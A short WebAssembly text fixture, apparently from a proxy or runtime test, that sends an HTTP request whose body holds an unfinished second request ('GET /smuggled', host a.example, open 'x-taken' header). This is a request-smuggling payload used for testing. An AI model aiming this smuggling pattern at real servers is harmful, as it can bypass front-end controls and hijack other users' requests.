;; Sends a request whose body is the head of another request, without its end; the number is the method.
(data (i32.const 1200) "@NO@")
(data (i32.const 1024) "@ADDRESS@.......................................................")
(data (i32.const 1300) "GET /smuggled HTTP/1.1\0d\0ahost: a.example\0d\0ax-taken: ")
(func $open (param i32 i32) (result i32)
  (call $send
    (i32.load (i32.const 1200)) (i32.const 1024) (i32.const 64)
    (i32.const 0) (i32.const 0) (i32.const 1) (i32.const 1300) (i32.const 50)
    (i32.const 512))
  (call $refuse_as_answered))
